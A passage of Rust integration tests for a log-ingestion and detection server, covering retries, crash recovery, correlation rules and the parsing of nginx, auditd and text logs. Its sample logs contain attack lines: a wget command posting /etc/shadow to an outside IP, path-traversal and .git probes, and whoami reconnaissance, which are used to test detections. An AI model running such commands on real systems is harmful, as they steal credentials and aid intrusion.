    std::fs::write(empty.join("app.log"), "").unwrap();
    let out = f.server.cli(
        &f.token,
        &[
            "ingest",
            empty.join("app.log").to_str().unwrap(),
            "--service",
            "app",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("0 read, 0 stored"), "{text}");
    assert!(!stderr(&out).contains("not an EVTX"), "{}", stderr(&out));

    // Standard input holding no log format: named as such, nothing sent.
    let out = f.server.cli_with_input(
        &f.token,
        &["ingest", "-", "--service", "app"],
        b"just some notes\n".to_vec(),
    );
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(
        err.contains(
            "(standard input): not an EVTX, JSON, syslog, Linux audit or web server log file"
        ),
        "{err}"
    );

    // A path that does not exist.
    let out = f.server.cli(
        &f.token,
        &["ingest", "/nonexistent/logs", "--service", "app"],
    );
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("/nonexistent/logs"),
        "{}",
        stderr(&out)
    );

    // A bad --since is refused before any request.
    let out = f
        .server
        .cli(&f.token, &["search", "*", "--since", "yesterday"]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("--since"), "{}", stderr(&out));
}

/// A server killed and started again while `vigil ingest` sends: the client sends its batch
/// again until the server is back, and every event is stored once.
#[test]
fn ingest_sends_again_until_a_restarted_server_answers() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let token = admin_token(&data, "admin", "alice");
    let mut server = Server::start(&data);
    let url = server.url.clone();
    server.child.kill().unwrap();
    server.child.wait().unwrap();
    drop(server);
    let file = dir.path().join("events.jsonl");
    let lines: String = (1..=50)
        .map(|i| format!("{{\"message\":\"event {i}\"}}\n"))
        .collect();
    std::fs::write(&file, lines).unwrap();
    let sending = crate::support::vigil()
        .args(["ingest", file.to_str().unwrap(), "--service", "app"])
        .args([
            "--batch", "10", "--wait", "--server", &url, "--token", &token,
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(1200));
    let server = Server::start_on(&data, url.trim_start_matches("http://"), &[]);
    let out = sending.wait_with_output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let err = stderr(&out);
    assert!(out.status.success(), "{text}\n{err}");
    assert!(text.contains("50 stored"), "{text}");
    assert!(err.contains("sending the batch again"), "{err}");
    let stats = json_of(server.cli(&token, &["storage", "stats", "--json"]));
    assert_eq!(stats["services"][0]["events"], 50, "{stats}");
}

/// `vigil ingest` killed (SIGKILL) part way and run again: the batches the first run stored
/// are answered from the server's record of them and said already stored, the others stored,
/// and every event is stored once; `--resend` stores them all again.
#[test]
fn ingest_run_again_after_a_kill_stores_nothing_twice() {
    let f = start();
    let file = f.root.join("events.jsonl");
    let total = 3000;
    let lines: String = (1..=total)
        .map(|i| format!("{{\"message\":\"event {i}\",\"n\":{i}}}\n"))
        .collect();
    std::fs::write(&file, lines).unwrap();
    let path = file.to_str().unwrap();
    let ingest = ["ingest", path, "--service", "app", "--batch", "5", "--json"];
    let stored = || -> u64 {
        let stats = json_of(f.server.cli(&f.token, &["storage", "stats", "--json"]));
        stats["total_events"].as_u64().unwrap()
    };

    // Killed once the server holds some of its batches (600 requests: far from done).
    let mut first = f
        .server
        .command(&f.token, &ingest)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    wait_for("the first run's first batches to be stored", || {
        stored() > 0
    });
    first.kill().unwrap();
    first.wait().unwrap();
    // Settled: all searchable, and nothing more arriving.
    let before = eventually("the first run's events to be searchable", || {
        let stats = json_of(f.server.cli(&f.token, &["storage", "stats", "--json"]));
        let n = stats["total_events"].as_u64().unwrap();
        std::thread::sleep(Duration::from_millis(1200));
        (stats["index_lag"] == 0 && n == stored()).then_some(n)
    });
    assert!(before > 0 && before < total, "killed part way: {before}");

    let mut again = ingest.to_vec();
    again.push("--wait");
    let summary = json_of(f.server.cli(&f.token, &again));
    assert_eq!(summary["events_read"], total, "{summary}");
    assert_eq!(summary["already_stored"], before, "{summary}");
    assert_eq!(summary["stored"], total - before, "{summary}");
    assert_eq!(summary["not_sent"], 0, "{summary}");
    assert_eq!(summary["unconfirmed"], 0, "{summary}");
    assert_eq!(stored(), total, "every event stored once");

    // The whole command once more: everything is already stored; the human summary says so.
    let text = ok(f.server.cli(&f.token, &ingest[..ingest.len() - 1]));
    assert!(
        text.contains(&format!(
            "{total} read, 0 stored, {total} already stored (by an earlier run: not stored again), 0 rejected"
        )),
        "{text}"
    );
    assert_eq!(stored(), total);

    // --resend stores it all again, on purpose.
    let mut resend = again.clone();
    resend.push("--resend");
    let summary = json_of(f.server.cli(&f.token, &resend));
    assert_eq!(summary["stored"], total, "{summary}");
    assert_eq!(summary["already_stored"], 0, "{summary}");
    assert_eq!(stored(), 2 * total);
}

/// A server that stays down longer than `vigil ingest` keeps sending: the message says how
/// many events were stored at least, that the batch in flight may have been too, and to run
/// the same command again; the counts add up to the events read; and the same command run
/// again once the server is back stores each event once.
#[test]
fn ingest_stopped_by_a_server_down_says_what_is_stored_and_runs_again() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let token = admin_token(&data, "admin", "alice");
    let mut server = Server::start(&data);
    let url = server.url.clone();
    let file = dir.path().join("events.jsonl");
    let total = 3000u64;
    let lines: String = (1..=total)
        .map(|i| format!("{{\"message\":\"event {i}\"}}\n"))
        .collect();
    std::fs::write(&file, lines).unwrap();
    let command = |extra: &[&str]| {
        let mut c = crate::support::vigil();
        c.args(["ingest", file.to_str().unwrap(), "--service", "app"])
            .args([
                "--batch", "5", "--json", "--server", &url, "--token", &token,
            ])
            .args(extra);
        c
    };
    let sending = command(&[])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    wait_for("some batches to be stored", || {
        let stats = json_of(server.cli(&token, &["storage", "stats", "--json"]));
        stats["total_events"].as_u64().unwrap() > 0
    });
    server.child.kill().unwrap();
    server.child.wait().unwrap();
    drop(server);
    let out = sending.wait_with_output().unwrap();
    assert!(!out.status.success());
    let err = stderr(&out);
    let summary: Value = serde_json::from_slice(&out.stdout).unwrap();
    let n = |k: &str| summary[k].as_u64().unwrap();
    let stored = n("stored");
    assert!(
        err.contains(&format!("at least {stored} events were stored; the batch in flight (5 events) may have been stored too"))
            && err.contains("run the same command again"),
        "{err}"
    );
    assert_eq!(n("unconfirmed"), 5, "{summary}");
    assert_eq!(
        n("events_read"),
        stored + summary["rejected"]["count"].as_u64().unwrap() + n("unconfirmed") + n("not_sent"),
        "{summary}"
    );
    assert!(
        n("events_read") < total,
        "reading stopped with sending: {summary}"
    );
    let size = std::fs::metadata(&file).unwrap().len();
    assert!(n("bytes_read") <= size, "{summary}");

    let server = Server::start_on(&data, url.trim_start_matches("http://"), &[]);
    let out = command(&["--wait"]).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let again: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        again["already_stored"].as_u64().unwrap() >= stored,
        "{again}"
    );
    let stats = json_of(server.cli(&token, &["storage", "stats", "--json"]));
    assert_eq!(
        stats["total_events"], total,
        "every event stored once: {stats}"
    );
}

#[test]
fn bench_ingest_reports_acknowledged_and_searchable_rates() {
    let f = start();
    let out = ok(f.server.cli(
        &f.token,
        &[
            "bench",
            "ingest",
            "--events",
            "3000",
            "--connections",
            "2",
            "--batch",
            "500",
            "--searchable",
        ],
    ));
    assert!(out.contains("stored 3000, rejected 0"), "{out}");
    assert!(out.contains("batch ack latency"), "{out}");
    // What the server's own metrics say the events cost, and where its batches' time went.
    assert!(out.contains("server CPU until acknowledged: "), "{out}");
    assert!(
        out.contains("server steps per batch: decode ") && out.contains(", record "),
        "{out}"
    );
    assert!(
        out.contains("searchable: all 3000 events"),
        "the rate search keeps up with is reported: {out}"
    );
    let stats = json_of(f.server.cli(&f.token, &["storage", "stats", "--json"]));
    assert_eq!(stats["index_lag"], 0, "{stats}");
    assert_eq!(stats["total_events"], 3000, "{stats}");
}

/// A server with the brute-force correlation (two failures of one user within an hour), or
/// other rules, over a data directory that outlives it, and a way to send it a failure of root
/// at a given minute.
#[cfg(unix)]
struct Restarted {
    dir: tempfile::TempDir,
    data: std::path::PathBuf,
    rules: String,
    token: String,
}

#[cfg(unix)]
impl Restarted {
    fn new() -> Restarted {
        Restarted::with_rules(RULE_REPEATED_FAILURES)
    }

    fn with_rules(text: &str) -> Restarted {
        let dir = tempfile::tempdir().unwrap();
        let data = dir.path().join("data");
        let rules = dir.path().join("rules");
        std::fs::create_dir(&rules).unwrap();
        std::fs::write(rules.join("rules.yml"), text).unwrap();
        let token = admin_token(&data, "admin", "alice");
        Restarted {
            rules: rules.to_str().unwrap().to_owned(),
            dir,
            data,
            token,
        }
    }

    fn start(&self) -> Server {
        Server::start_with(&self.data, &["--rules", &self.rules])
    }

    /// The server's log store, opened as the server opens it (while no server runs).
    fn log_store(&self) -> vigil_logs::EmbeddedStore {
        let mut config = vigil_logs::EmbeddedConfig::new(self.data.join("logs"));
        config.track_detections = true;
        vigil_logs::EmbeddedStore::open(config).unwrap()
    }

    /// Sends root's failure at 10:MM and returns the detections it made.
    fn fail_at(&self, server: &Server, minute: u32) -> u64 {
        let file = self.dir.path().join(format!("e{minute}.jsonl"));
        std::fs::write(
            &file,
            format!(
                r#"{{"@timestamp":"2026-12-01T10:{minute:02}:00Z","user":"root","outcome":"failure"}}"#
            ),
        )
        .unwrap();
        let summary = json_of(server.cli(
            &self.token,
            &[
                "ingest",
                file.to_str().unwrap(),
                "--service",
                "bastion",
                "--json",
            ],
        ));
        summary["detections"].as_u64().unwrap()
    }
}

/// The two events of a correlation arrive on either side of a clean restart.
#[cfg(unix)]
#[test]
fn correlation_windows_survive_a_clean_restart() {
    let r = Restarted::new();
    let mut server = r.start();
    assert_eq!(r.fail_at(&server, 0), 0);
    assert!(server.terminate().success());
    assert!(
        r.data.join("correlations.json").exists(),
        "the windows are saved on a clean stop"
    );
    drop(server);

    let server = r.start();
    // The second failure completes the window the first one opened before the restart.
    assert_eq!(r.fail_at(&server, 5), 1);
    assert!(
        !r.data.join("correlations.json").exists(),
        "taken back, then removed"
    );
}

/// After kill -9 the windows are rebuilt from the stored events: a window open at the crash is
/// completed after it, and one that had completed before it is not reported again.
#[cfg(unix)]
#[test]
fn correlation_windows_are_rebuilt_after_a_crash() {
    let r = Restarted::new();
    let mut server = r.start();
    assert_eq!(r.fail_at(&server, 0), 0);
    assert_eq!(r.fail_at(&server, 1), 1, "two failures within the hour");
    assert_eq!(r.fail_at(&server, 2), 0, "a new window opens");
    server.child.kill().unwrap();
    server.child.wait().unwrap();
    assert!(!r.data.join("correlations.json").exists());
    drop(server);

    let server = r.start();
    // The server serves while it rebuilds the windows (a batch's events are correlated after).
    // Minutes 0 and 1 were reported before the crash; minute 2 waits for its second failure.
    let rules_status = || json_of(server.cli(&r.token, &["rules", "status", "--json"]));
    wait_for("the windows rebuilt", || {
        rules_status()["correlations"][0]["events"] == 1
    });
    let status = rules_status();
    let windows = &status["correlations"][0];
    assert_eq!(windows["rule_id"], "repeated", "{status}");
    assert_eq!(windows["events"], 1, "{status}");
    assert_eq!(windows["oldest"], "2026-12-01T10:02:00Z", "{status}");
    let table = ok(server.cli(&r.token, &["rules", "status"]));
    assert!(table.contains("Repeated failures"), "{table}");
    assert!(table.contains("2026-12-01 10:02:00 UTC"), "{table}");
    assert!(table.contains("user=root: 1"), "{table}");
    assert_eq!(r.fail_at(&server, 3), 1);
    let detections = json_of(server.cli(&r.token, &["detections", "--json"]));
    assert_eq!(detections["total"], 2, "{detections}");
}

/// Old events ingested after newer ones are correlated over the store by the running server's
/// clock, also when it was killed before their run: the span waits in its file.
#[cfg(unix)]
#[test]
fn late_events_are_correlated_by_the_server_after_a_crash() {
    let r = Restarted::new();
    let mut server = r.start();
    let ingest = |name: &str, lines: &[(&str, &str)]| {
        let file = r.dir.path().join(name);
        let lines: Vec<String> = lines
            .iter()
            .map(|(time, outcome)| {
                format!(
                    r#"{{"@timestamp":"2026-12-01T{time}Z","user":"root","outcome":"{outcome}"}}"#
                )
            })
            .collect();
        std::fs::write(&file, lines.join("\n")).unwrap();
        json_of(server.cli(
            &r.token,
            &[
                "ingest",
                file.to_str().unwrap(),
                "--service",
                "bastion",
                "--json",
            ],
        ))
    };
    // The stream is at 15:00; then root's failures of 10:00 and 10:20 come.
    ingest("new.jsonl", &[("15:00:00", "success")]);
    let summary = ingest(
        "old.jsonl",
        &[("10:00:00", "failure"), ("10:20:00", "failure")],
    );
    assert_eq!(summary["detections"], 0, "{summary}");
    assert_eq!(summary["correlated_later"], 2, "{summary}");
    let status = json_of(server.cli(&r.token, &["rules", "status", "--json"]));
    assert_eq!(
        status["correlations_late"][0]["from"], "2026-12-01T10:00:00Z",
        "{status}"
    );
    assert!(r.data.join("correlations-late.json").exists());
    server.child.kill().unwrap();
    server.child.wait().unwrap();
    drop(server);

    // The next start runs the span at its clock's next tick (every 30 s).
    let server = r.start();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(180);
    let detections = loop {
        let detections = json_of(server.cli(&r.token, &["detections", "--json"]));
        if detections["total"] == 1 {
            break detections;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no detection from the late run: {detections}"
        );
        std::thread::sleep(std::time::Duration::from_secs(1));
    };
    let found = &detections["items"][0];
    assert_eq!(found["rule_id"], "repeated", "{detections}");
    assert_eq!(found["event_time"], "2026-12-01T10:20:00Z", "{detections}");
    wait_for("the file let go of the span", || {
        !r.data.join("correlations-late.json").exists()
    });
}

/// An event of host ws01 of service ws, as the server would store it.
#[cfg(unix)]
fn ws01(json: &str) -> vigil_logs::NewEvent {
    vigil_logs::NewEvent {
        time: chrono::Utc::now(),
        service: "ws".into(),
        host: "ws01".into(),
        tenant: String::new(),
        json: json.into(),
        json_checked: false,
    }
}

/// kill -9 between storing events and recording their detections leaves them in the log store
/// unmatched (a syslog sender never resends); the next start matches them again and records
/// what they match, without recording again what was recorded before the crash.
#[cfg(unix)]
#[test]
fn events_a_crash_left_without_detections_are_matched_at_the_next_start() {
    use vigil_logs::EventStore;
    let r = Restarted::with_rules(RULE_WHOAMI);
    let whoami = sysmon1(1, r"C:\Windows\System32\whoami.exe", "whoami /all").to_string();
    let file = r.dir.path().join("first.jsonl");
    std::fs::write(&file, &whoami).unwrap();

    let mut server = r.start();
    let summary = json_of(server.cli(
        &r.token,
        &[
            "ingest",
            file.to_str().unwrap(),
            "--service",
            "ws",
            "--json",
        ],
    ));
    assert_eq!(summary["detections"], 1, "{summary}");
    server.child.kill().unwrap();
    server.child.wait().unwrap();
    drop(server);

    // What the crash leaves when it comes between the two steps: stored, never matched.
    let logs = r.log_store();
    let notepad = sysmon1(2, r"C:\Windows\notepad.exe", "notepad a.txt").to_string();
    let ids = logs
        .append(vec![ws01(&notepad), ws01(&whoami)])
        .unwrap()
        .stored;
    drop(logs);

    let server = r.start();
    let detections = || json_of(server.cli(&r.token, &["detections", "--json"]));
    wait_for("the owed event matched", || detections()["total"] == 2);
    let listed = detections();
    let matched: Vec<u64> = listed["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["event_id"].as_u64().unwrap())
        .collect();
    assert!(matched.contains(&ids[1]), "{listed}");
    assert!(!matched.contains(&ids[0]), "{listed}");
}

/// kill -9 between storing a batch sent under an Idempotency-Key and recording its answer
/// leaves the batch stored, unanswered: sent again after the restart (as `vigil ingest` does
/// while the server restarts), it is answered as the first sending would have been and stored
/// once, its detection recorded once.
#[cfg(unix)]
#[test]
fn a_batch_sent_again_after_a_crash_took_its_answer_is_stored_once() {
    use vigil_events::batch::BodyFormat;
    use vigil_ingest::{BatchKey, Envelope};
    use vigil_logs::EventStore;
    let r = Restarted::with_rules(RULE_WHOAMI);
    let tokens: Value = serde_json::from_str(&ok(run(&[
        "admin",
        "tokens",
        "--data",
        r.data.to_str().unwrap(),
        "--json",
    ])))
    .unwrap();
    let token_id: uuid::Uuid = tokens[0]["id"].as_str().unwrap().parse().unwrap();
    let whoami = sysmon1(1, r"C:\Windows\System32\whoami.exe", "whoami /all").to_string();
    let notepad = sysmon1(2, r"C:\Windows\notepad.exe", "notepad a.txt").to_string();
    let body = format!("{whoami}\n{notepad}\n");
    let content_type = "application/x-ndjson";

    // What the crash leaves: the batch stored with the mark the server writes, no answer.
    let envelope = Envelope {
        service: "ws".into(),
        host: "ws01".into(),
        tenant: String::new(),
    };
    let key = BatchKey::new(
        token_id,
        "batch-0007".into(),
        &envelope,
        &BodyFormat::from_content_type(Some(content_type)),
        body.as_bytes(),
    );
    let logs = r.log_store();
    let mark = vigil_ingest::once::mark(&key, &[]);
    logs.append_marked(vec![ws01(&whoami), ws01(&notepad)], mark)
        .unwrap();
    drop(logs);

    let server = r.start();
    let send = || {
        crate::support::runtime().block_on(async {
            let resp = reqwest::Client::new()
                .post(format!("{}/api/v1/events?service=ws&host=ws01", server.url))
                .bearer_auth(&r.token)
                .header("content-type", content_type)
                .header("idempotency-key", "batch-0007")
                .body(body.clone())
                .send()
                .await
                .unwrap();
            let replayed = resp.headers().get("idempotent-replayed").is_some();
            (
                resp.status().as_u16(),
                replayed,
                resp.json::<Value>().await.unwrap(),
            )
        })
    };
    // Refused as being stored (409) while the start records its answer, then answered.
    let mut answered = None;
    wait_for("the batch answered", || {
        let (status, replayed, body) = send();
        assert!(status == 200 || status == 409, "{status}: {body}");
        if status == 200 {
            answered = Some((replayed, body));
        }
        status == 200
    });
    let (replayed, answer) = answered.unwrap();
    assert!(
        replayed,
        "answered from the store, not stored again: {answer}"
    );
    assert_eq!(answer["stored"], 2, "{answer}");
    assert_eq!(answer["detections"], 1, "{answer}");
    assert_eq!(answer["alerts"], 1, "{answer}");

    wait_for("the events searchable", || {
        json_of(server.cli(&r.token, &["storage", "stats", "--json"]))["index_lag"] == 0
    });
    let stats = json_of(server.cli(&r.token, &["storage", "stats", "--json"]));
    assert_eq!(stats["services"][0]["events"], 2, "stored once: {stats}");
    let detections = json_of(server.cli(&r.token, &["detections", "--json"]));
    assert_eq!(detections["total"], 1, "{detections}");
}

/// `vigil serve --placeholders FILE` matches ingested events with the placeholder values of
/// rules with the `expand` modifier, and reads the file again on a rules reload.
#[test]
fn serve_takes_placeholder_values_and_reads_them_again_on_reload() {
    let dir = tempfile::tempdir().unwrap();
    let (data, rules) = (dir.path().join("data"), dir.path().join("rules"));
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("admins.yml"),
        "title: Admin login\nid: admin-login\nlevel: high\nlogsource: {product: linux}\n\
         detection:\n  sel:\n    user.name|expand: '%admins%'\n  condition: sel\n",
    )
    .unwrap();
    let placeholders = dir.path().join("placeholders.yml");
    std::fs::write(&placeholders, "admins: [alice]\n").unwrap();
    let token = admin_token(&data, "admin", "alice");
    let server = Server::start_with(
        &data,
        &[
            "--rules",
            rules.to_str().unwrap(),
            "--placeholders",
            placeholders.to_str().unwrap(),
        ],
    );
    let logins = dir.path().join("logins.jsonl");
    std::fs::write(
        &logins,
        "{\"user\":{\"name\":\"alice\"}}\n{\"user\":{\"name\":\"bob\"}}\n",
    )
    .unwrap();
    // Sent again on purpose (--resend): the same command would be answered as already stored.
    let ingest = || {
        let args = [
            "ingest",
            logins.to_str().unwrap(),
            "--service",
            "vpn",
            "--json",
            "--resend",
        ];
        json_of(server.cli(&token, &args))["detections"].clone()
    };
    assert_eq!(ingest(), 1, "alice is an admin");
    std::fs::write(&placeholders, "admins: [alice, bob]\n").unwrap();
    ok(server.cli(&token, &["rules", "reload"]));
    assert_eq!(ingest(), 2, "so is bob, after the reload");
    // A placeholder left without values is named by the rules' status, with what to do.
    std::fs::write(&placeholders, "others: [carol]\n").unwrap();
    ok(server.cli(&token, &["rules", "reload"]));
    let status = ok(server.cli(&token, &["rules", "status"]));
    assert!(status.contains("PLACEHOLDER WITHOUT VALUES"), "{status}");
    assert!(status.contains("%admins%"), "{status}");
    assert!(status.contains("--placeholders FILE"), "{status}");
    let json = json_of(server.cli(&token, &["rules", "status", "--json"]));
    assert!(
        json["placeholders_without_values"][0]
            .as_str()
            .is_some_and(|p| p.contains("%admins%")),
        "{json}"
    );
}

/// An nginx access log and error log sent with `vigil ingest`: stored as webserver events (searchable by
/// their W3C fields, summarised as the log line read) and matched against SigmaHQ's webserver
/// rules only, though the server runs the Linux rules too; a line that is no request is named.
#[test]
fn web_access_logs_are_ingested_as_webserver_events_and_matched() {
    let sigma = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/sigma/rules");
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let token = admin_token(&data, "admin", "alice");
    let rules = format!(
        "{},{}",
        sigma.join("web").display(),
        sigma.join("linux").display()
    );
    let server = Server::start_with(&data, &["--rules", &rules]);
    let cli = |args: &[&str]| server.cli(&token, args);
    let log = dir.path().join("access.log");
    std::fs::write(
        &log,
        r#"198.51.100.23 - - [03/Dec/2026:22:14:01 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"
203.0.113.50 - - [03/Dec/2026:22:15:10 +0000] "GET /index.php?page=../../../etc/passwd HTTP/1.1" 200 1733 "-" "Mozilla/5.0"
<garbage>
203.0.113.50 - - [03/Dec/2026:22:15:11 +0000] "GET /.git/config HTTP/1.1" 404 153 "-" "Mozilla/5.0"
"#,
    )
    .unwrap();
    let summary = json_of(cli(&[
        "ingest",
        log.to_str().unwrap(),
        "--service",
        "shop",
        "--host",
        "web-1",
        "--wait",
        "--json",
    ]));
    assert_eq!(summary["stored"], 3, "{summary}");
    assert_eq!(summary["errors"]["count"], 1, "{summary}");
    assert_eq!(summary["errors"]["first"][0]["line"], 3, "{summary}");
    assert_eq!(summary["detections"], 2, "{summary}");

    let detections = json_of(cli(&["detections", "--json"]));
    let mut titles: Vec<&str> = detections["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["rule_title"].as_str().unwrap())
        .collect();
    titles.sort();
    assert_eq!(
        titles,
        [
            "Path Traversal Exploitation Attempts",
            "Source Code Enumeration Detection by Keyword"
        ],
        "{detections}"
    );
    let found = json_lines(cli(&[
        "search",
        "cs-uri-stem:/index.php AND sc-status:200",
        "--json",
    ]));
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["event"]["c-ip"], "203.0.113.50");
    assert_eq!(found[0]["time"], "2026-12-03T22:15:10Z", "{found:?}");
    let table = ok(cli(&["search", "c-ip:203.0.113.50"]));
    assert!(
        table.contains("203.0.113.50 GET /.git/config 404 Mozilla/5.0"),
        "{table}"
    );

    // The server's error log: nginx's rule for it meets the crashed worker.
    let errors = dir.path().join("error.log");
    std::fs::write(
        &errors,
        "2026/12/03 22:15:12 [error] 88#88: *9 open() \"/srv/x\" failed (2: No such file or directory), client: 203.0.113.50, server: shop\n\
         2026/12/03 22:16:00 [alert] 1#1: worker process 88 exited on signal 6 (core dumped)\n",
    )
    .unwrap();
    let summary = json_of(cli(&[
        "ingest",
        errors.to_str().unwrap(),
        "--service",
        "shop",
        "--wait",
        "--json",
    ]));
    assert_eq!(
        (&summary["stored"], &summary["detections"]),
        (&json!(2), &json!(1)),
        "{summary}"
    );
    let client = json_lines(cli(&["search", "c-ip:203.0.113.50", "--json"]));
    assert_eq!(
        client.len(),
        3,
        "both logs name the client alike: {client:?}"
    );
}

/// auditd's audit.log sent with `vigil ingest`: each record stored as an event at its own
/// time, searchable by its fields, and matched against SigmaHQ's auditd rules though the
/// service declares no logsource.
#[test]
fn auditd_logs_are_ingested_record_by_record_and_matched() {
    let auditd =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/sigma/rules/linux/auditd");
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let token = admin_token(&data, "admin", "alice");
    let server = Server::start_with(&data, &["--rules", auditd.to_str().unwrap()]);
    let cli = |args: &[&str]| server.cli(&token, args);
    let log = dir.path().join("audit.log");
    std::fs::write(
        &log,
        "type=SYSCALL msg=audit(1700000000.100:100): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=811 pid=812 auid=1000 uid=1000 euid=1000 comm=\"wget\" exe=\"/usr/bin/wget\" key=\"exec\"\n\
         type=EXECVE msg=audit(1700000000.100:100): argc=3 a0=\"wget\" a1=\"--post-file=/etc/shadow\" a2=\"http://203.0.113.9/u\"\n\
         type=EOE msg=audit(1700000000.100:100): \n",
    )
    .unwrap();
    let summary = json_of(cli(&[
        "ingest",
        log.to_str().unwrap(),
        "--service",
        "web-1",
        "--wait",
        "--json",
    ]));
    assert_eq!(
        (&summary["stored"], &summary["detections"]),
        (&json!(3), &json!(1)),
        "{summary}"
    );
    let detections = json_of(cli(&["detections", "--json"]));
    assert_eq!(
        detections["items"][0]["rule_title"], "Data Exfiltration with Wget",
        "{detections}"
    );
    let found = json_lines(cli(&["search", "type:EXECVE AND a0:wget", "--json"]));
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["event"]["serial"], 100);
    assert_eq!(found[0]["time"], "2023-11-14T22:13:20.100Z", "{found:?}");
}

/// An application's own log, in no format Vigil knows (the real HDFS sample of
/// ../shared/data): named without --text it is refused with the flag to give; with --text
/// every line is stored as a message, searchable and pivotable; a binary file in the folder is
/// still skipped.
#[test]
fn text_logs_of_no_known_format_are_stored_line_by_line_with_text() {
    let hdfs =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/logs/HDFS/HDFS_2k.log");
    let f = start();
    let cli = |args: &[&str]| f.server.cli(&f.token, args);
    let refused = cli(&["ingest", hdfs.to_str().unwrap(), "--service", "hdfs"]);
    assert!(!refused.status.success());
    assert!(
        stderr(&refused).contains("give --text"),
        "{}",
        stderr(&refused)
    );

    let folder = f.root.join("app");
    std::fs::create_dir(&folder).unwrap();
    std::fs::copy(&hdfs, folder.join("hdfs.log")).unwrap();
    std::fs::write(folder.join("logo.png"), b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR").unwrap();
    std::fs::write(folder.join("README.md"), "# What was collected\n").unwrap();
    std::fs::write(
        folder.join("app.log"),
        "2026-12-03 22:15:10,123 WARN login failed for bob from 203.0.113.77\n",
    )
    .unwrap();
    // Without --text the folder's text logs are skipped with the PNG, and named.
    let skipped = cli(&["ingest", folder.to_str().unwrap(), "--service", "hdfs"]);
    let said = stderr(&skipped);
    assert!(
        !String::from_utf8_lossy(&skipped.stdout).contains("skipped"),
        "stdout keeps the counts alone"
    );
    assert!(
        said.contains("4 files skipped: no format Vigil reads; named like text logs: ")
            && said.contains("app.log, ")
            && said.contains("hdfs.log; give --text"),
        "{said}"
    );
    let summary = json_of(cli(&[
        "ingest",
        folder.to_str().unwrap(),
        "--service",
        "hdfs",
        "--text",
        "--wait",
        "--json",
    ]));
    assert_eq!(summary["stored"], 2001, "{summary}");
    assert_eq!(summary["files"], 2, "{summary}");
    assert_eq!(
        summary["files_skipped"], 2,
        "the PNG and the README: {summary}"
    );
    let found = json_lines(cli(&["search", "blk_38865049064139660", "--json"]));
    assert!(!found.is_empty(), "a block id is found in the messages");
    assert!(
        found[0]["event"]["message"]
            .as_str()
            .unwrap()
            .starts_with("081109 203615 148 INFO"),
        "{found:?}"
    );
    let bob = json_lines(cli(&["search", "203.0.113.77", "--json"]));
    assert_eq!(bob.len(), 1, "{bob:?}");
    assert_eq!(bob[0]["time"], "2026-12-03T22:15:10.123Z", "{bob:?}");

    // The same kind of line written on a New York machine, read in its zone.
    let ny = f.root.join("ny.log");
    std::fs::write(
        &ny,
        "2026-12-03 22:15:10,123 WARN login failed for carol from 203.0.113.78\n",
    )
    .unwrap();
    let summary = json_of(cli(&[
        "ingest",
        ny.to_str().unwrap(),
        "--service",
        "hdfs",
        "--text",
        "--timezone",
        "America/New_York",
        "--wait",
        "--json",
    ]));
    assert_eq!(summary["stored"], 1, "{summary}");
    let carol = json_lines(cli(&["search", "203.0.113.78", "--json"]));
    assert_eq!(carol[0]["time"], "2026-12-04T03:15:10.123Z", "{carol:?}");
}

/// A rule written after the events came in runs over what the server holds: `vigil search
/// --raw` prints the stored events as they were sent, and `vigil hunt -` reads them back — the
/// server's own rule finds there what it detected on arrival; `vigil rules preview` has the
/// server run it, a bad rule file named on the way.
#[test]
fn stored_events_are_hunted_again_with_search_raw_and_rules_preview() {
    let f = start();
    let cli = |args: &[&str]| f.server.cli(&f.token, args);
    let app = f.root.join("app.jsonl");
    std::fs::write(&app, app_jsonl()).unwrap();
    let summary = json_of(cli(&[
        "ingest",
        app.to_str().unwrap(),
        "--service",
        "app",
        "--tenant",
        "acme",
        "--wait",
        "--json",
    ]));
    assert_eq!(summary["detections"], 1, "{summary}");
    let raw = ok(cli(&["search", "*", "--all", "--raw"]));
    let events: Vec<Value> = raw
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(events.len(), 5, "{raw}");
    assert!(
        events
            .iter()
            .any(|e| e["Event"]["EventData"]["Image"] == r"C:\Windows\notepad.exe"),
        "the events as sent, without the envelope: {raw}"
    );
    let stored = f.root.join("stored.jsonl");
    std::fs::write(&stored, &raw).unwrap();
    let later = f.root.join("later");
    std::fs::create_dir(&later).unwrap();
    std::fs::write(
        later.join("notepad.yml"),
        "title: Notepad Opens A Report\nid: 5d2c8f9e-0a1b-4c3d-9e8f-7a6b5c4d3e2f\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\notepad.exe'\n  condition: selection\nlevel: low\n",
    )
    .unwrap();
    let rules = f.root.join("rules");
